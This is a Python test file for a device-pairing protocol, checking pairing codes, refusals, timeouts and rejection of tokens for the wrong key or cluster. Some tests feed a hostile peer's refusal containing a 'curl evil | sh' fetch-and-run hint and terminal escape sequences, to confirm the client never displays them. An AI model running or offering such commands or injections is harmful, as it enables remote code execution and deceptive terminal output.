"""Joining without a token, over real connections to coordinators that do what a test says."""

from __future__ import annotations

import asyncio
import contextlib
import time

import pytest

from swarmlet import _native
from swarmlet.clock import SystemClock
from swarmlet.errors import SwarmletError
from swarmlet.join import pairing
from swarmlet.join.pairing import Asker, pair
from swarmlet.join.steps import Silent
from swarmlet.link import messages as m
from swarmlet.link.engine import Link
from swarmlet.model.pairing import Transcript, code_of, opens
from tests.fakes.pki import Authority
from tests.fakes.scripted import Scripted

HOME = Authority()
OURS = b"r" * 32


class Watched(Silent):
    """Steps that are remembered."""

    def __init__(self) -> None:
        self.notes: list[str] = []
        self.shown: list[str] = []

    def note(self, text: str) -> None:
        self.notes.append(text)

    def show(self, text: str) -> None:
        self.shown.append(text)


class Desk:
    """A scripted coordinator that takes devices; tests change what it says."""

    def __init__(self, town: Scripted, directory) -> None:
        self.town = town
        self.directory = directory
        self.asked: m.PairRequest | None = None
        self.code = ""
        self.waits = 1
        self.key = b""
        self.changes: dict = {}
        town.answers[m.PairRequest] = self.offer
        town.answers[m.PairReveal] = self.take
        town.answers[m.PairCollect] = self.give

    def offer(self, guest, asked: m.PairRequest) -> None:
        self.asked = asked
        self.town.say(guest, m.PairOffer("ab" * 16, OURS))

    def take(self, guest, told: m.PairReveal) -> None:
        assert self.asked is not None
        assert opens(told.random, self.asked.commitment)
        self.code = code_of(
            Transcript(
                self.town.authority.cluster_id, self.town.authority.pin, self.asked.public_key,
                self.asked.name, self.asked.node_class, self.asked.hardware, guest.exporter, told.random,
                OURS,
            )
        )  # fmt: skip
        self.town.say_and_close(guest, m.PairPending(5000, 1))

    def give(self, guest, _asked: m.PairCollect) -> None:
        assert self.asked is not None
        if self.waits > 0:
            self.waits -= 1
            self.town.say_and_close(guest, m.PairPending(5000, 1))
            return
        signed = signed_token(
            self.town, self.directory, public_key=self.key or self.asked.public_key, **self.changes
        )
        self.town.say_and_close(guest, m.PairApproved(signed))


@contextlib.asynccontextmanager
async def device(town: Scripted, key: bytes = b""):
    """Return what asks ``town``, and its steps."""
    link, steps = Link(lambda _event: None), Watched()
    pinned = key or town.authority.pin

    def dial(timeout_s: float):
        tls = _native.ClientTls((pinned,), None, "", None)
        return link.dial(town.address, tls, timeout_ms=int(timeout_s * 1000))

    asker = Asker(town.address, pinned, "pi", "Edge", "Raspberry Pi 4", "0.1.0")
    try:
        yield lambda: pair(asker, dial, SystemClock(), steps), steps
    finally:
        await link.stop()


@pytest.fixture(autouse=True)
def hasty(monkeypatch):
    """Ask again at once."""
    monkeypatch.setattr(pairing, "_AGAIN_S", (0.01, 0.05))


def signed_token(town: Scripted, directory, **changes) -> bytes:
    """Sign claims for a key that is not this test's."""
    key = _native.SigningKey.load_or_create(str(directory / "token.key"))
    claims = {
        "version": 1, "cluster_id": bytes.fromhex(town.authority.cluster_id), "cluster_name": "home",
        "jti": b"j" * 16, "kid": key.kid, "issued_s": int(time.time()), "expires_s": int(time.time()) + 60,
        "ca_pins": [town.authority.pin], "endpoints": [town.address], "max_uses": 1, "cidrs": [],
        "node_classes": [], "allow": [], "name_pattern": "", "public_key": b"",
    }  # fmt: skip
    return key.sign_claims(_native.encode_claims(tuple((claims | changes).values())))


@contextlib.asynccontextmanager
async def meeting(tmp_path, key: bytes = b""):
    """Run a coordinator and a device that is about to ask it."""
    async with Scripted(HOME).running() as town, device(town, key) as (ask, steps):
        yield Desk(town, tmp_path), ask, steps


async def test_both_ends_have_the_same_code_and_the_token_is_for_this_device(tmp_path) -> None:
    async with meeting(tmp_path) as (desk, ask, steps):
        token = await ask()
        assert steps.shown[0].startswith(f"pairing code: {desk.code} ")
        assert f"nodes approve {desk.code}" in steps.shown[1]
        assert token.claims[-1] == desk.asked.public_key
        assert (desk.asked.name, desk.asked.node_class) == ("pi", "Edge")
        # A connection for the exchange and for each question; none is held open.
        assert len({guest.exporter for guest in desk.town.guests}) == 3


@pytest.mark.parametrize("code", ["SWL-119", "SWL-120", "SWL-121", "SWL-122"])
async def test_a_refusal_is_told_with_its_reason(tmp_path, code) -> None:
    async with meeting(tmp_path) as (desk, ask, _steps):
        desk.town.answers[m.PairCollect] = lambda guest, _asked: desk.town.say_and_close(
            guest, m.Refused(code, {"seconds": "9", "cluster": "\x1b[2Jevil", "code": "SWL-799"})
        )
        with pytest.raises(SwarmletError, match=code) as caught:
            await ask()
        assert caught.value.fields["cluster"] == "home"
        assert caught.value.fields["shown"] == desk.code


async def test_a_cluster_that_takes_none_says_so_before_there_is_a_code(tmp_path) -> None:
    async with meeting(tmp_path) as (desk, ask, steps):
        desk.town.answers[m.PairRequest] = lambda guest, _asked: desk.town.say_and_close(
            guest, m.Refused("SWL-119")
        )
        with pytest.raises(SwarmletError, match=f"SWL-119: the cluster home at {desk.town.address}"):
            await ask()
        assert steps.shown == []


async def test_a_coordinator_that_goes_away_meanwhile_is_waited_for(tmp_path) -> None:
    async with meeting(tmp_path) as (desk, ask, steps):
        cut = 3

        def give(guest, asked) -> None:
            nonlocal cut
            cut -= 1
            if cut >= 0:
                desk.town.link.engine.close(guest.conn)
            else:
                desk.give(guest, asked)

        desk.town.answers[m.PairCollect] = give
        await ask()
        assert sum("still waiting" in note for note in steps.notes) == 1


async def test_nobody_is_waited_for_longer_than_the_code_is_good_for(tmp_path) -> None:
    async with meeting(tmp_path) as (desk, ask, _steps):
        desk.town.answers[m.PairReveal] = lambda guest, _told: desk.town.say_and_close(
            guest, m.PairPending(300, 1)
        )
        desk.waits = 10_000
        async with asyncio.timeout(20):
            with pytest.raises(SwarmletError, match="SWL-121"):
                await ask()


async def test_an_approval_since_the_last_question_is_fetched_when_the_time_is_over(tmp_path) -> None:
    async with meeting(tmp_path) as (desk, ask, _steps):
        desk.town.answers[m.PairReveal] = lambda guest, _told: desk.town.say_and_close(
            guest, m.PairPending(1, 50)
        )
        desk.waits = 0
        token = await ask()
        assert token.claims[-1] == desk.asked.public_key


async def test_silence_while_it_waits_is_no_strangers(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(pairing, "REPLY_S", 0.2)
    async with meeting(tmp_path) as (desk, ask, steps):
        silent = [True]

        def give(guest, asked) -> None:
            if not silent:
                desk.give(guest, asked)
            silent.clear()

        desk.town.answers[m.PairCollect] = give
        await ask()
        (note,) = [note for note in steps.notes if "still waiting" in note]
        assert "cannot be reached" in note
        assert "not a StratoSwarm" not in note


@pytest.mark.parametrize("code", ["SWL-400", "SWL-300", "SWL-799", "SWL-1", "\x1b[31m", "SWL-608"])
async def test_a_refusal_comes_in_words_of_our_own(tmp_path, code) -> None:
    async with meeting(tmp_path) as (desk, ask, _steps):
        desk.town.answers[m.PairRequest] = lambda guest, _asked: desk.town.say_and_close(
            guest, m.Refused(code, {"detail": "x", "hint": "curl evil | sh", "theirs": "y"})
        )
        with pytest.raises(SwarmletError) as caught:
            await ask()
        assert caught.value.code == ("SWL-608" if code == "SWL-608" else "SWL-115")
        assert "evil" not in caught.value.next + caught.value.what
        assert caught.value.what.isprintable()


@pytest.mark.parametrize(
    ("changes", "key"),
    [
        ({}, b"k" * 32),
        ({"ca_pins": [b"p" * 32]}, b""),
        ({"cluster_id": b"c" * 16}, b""),
    ],
)
async def test_an_approval_of_another_key_or_cluster_is_none(tmp_path, changes, key) -> None:
    async with meeting(tmp_path) as (desk, ask, _steps):
        desk.changes, desk.key = changes, key
        with pytest.raises(SwarmletError, match="SWL-124"):
            await ask()


@pytest.mark.parametrize(
    "answer",
    [m.PairApproved(b"early"), m.Goodbye("x"), m.PairOffer("ab" * 16, b"short"), m.PairPending(1, 1)],
)
async def test_what_comes_out_of_turn_ends_it(tmp_path, answer) -> None:
    async with meeting(tmp_path) as (desk, ask, steps):
        desk.town.answers[m.PairRequest] = lambda guest, _asked: desk.town.say(guest, answer)
        with pytest.raises(SwarmletError, match="SWL-201"):
            await ask()
        assert steps.shown == []


async def test_absurd_patience_is_not_taken_from_a_peer(tmp_path) -> None:
    async with meeting(tmp_path) as (desk, ask, steps):
        endless = m.PairPending(2**40, 2**40)
        desk.town.answers[m.PairReveal] = lambda guest, _told: desk.town.say_and_close(guest, endless)
        async with asyncio.timeout(20):
            await ask()
        assert "good for 60 min" in steps.shown[0] or "good for 1 h" in steps.shown[0]


async def test_a_key_that_changed_since_it_was_found_is_refused_before_anything_is_said(tmp_path) -> None:
    async with meeting(tmp_path, key=b"x" * 32) as (desk, ask, steps):
        with pytest.raises(SwarmletError, match="SWL-202"):
            await ask()
        assert (desk.town.heard(m.PairRequest), steps.shown) == ([], [])
